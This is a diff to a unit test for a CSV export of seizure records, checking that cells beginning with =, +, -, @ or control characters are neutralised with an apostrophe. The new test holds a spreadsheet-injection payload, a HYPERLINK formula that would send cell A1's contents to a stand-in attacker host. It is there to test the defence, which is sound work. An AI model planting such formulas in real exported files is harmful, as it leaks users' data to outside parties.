@@ -36,8 +36,16 @@ describe('seizuresToCsv', () => {
     const s = stamp({ ...base, place: '-Mombasa', commodity: '@logs', taxon: '\tx', operation: '\rop', sourceTitle: '+1', notes: '=1+1', latitude: -4.05, longitude: -39.6667 }, 2);
     const row = seizuresToCsv([s]).split('\r\n')[1]!;
     expect(row).toBe(
-      `2021-03-11,day,KE,"'-Mombasa",-4.05,-39.6667,port,forestry,"'@logs","'\tx",1200,kg,MG;KM,,CN,Kenya Revenue Authority; KWS,1500000.5,KES,"'\rop","https://example.org/a?b=1,2","'+1","'=1+1"`,
+      `2021-03-11,day,KE,'-Mombasa,-4.05,-39.6667,port,forestry,'@logs,'\tx,1200,kg,MG;KM,,CN,Kenya Revenue Authority; KWS,1500000.5,KES,"'\rop","https://example.org/a?b=1,2",'+1,'=1+1`,
     );
+  });
+
+  it('neutralises formula cells that contain line breaks too (a multi-line note or commodity)', () => {
+    const s = stamp({ ...base, notes: '=HYPERLINK("http://attacker.invalid/?x="&A1,"open")&"\nsecond line"', commodity: '@SUM(1)\r\nsecond line' }, 3);
+    const csv = seizuresToCsv([s]);
+    expect(csv).toContain(`"'=HYPERLINK(""http://attacker.invalid/?x=""&A1,""open"")&""\nsecond line"`);
+    expect(csv).toContain(`"'@SUM(1)\r\nsecond line"`);
+    expect(csv).not.toMatch(/[,\n]"?=HYPERLINK/);
   });
 });
 
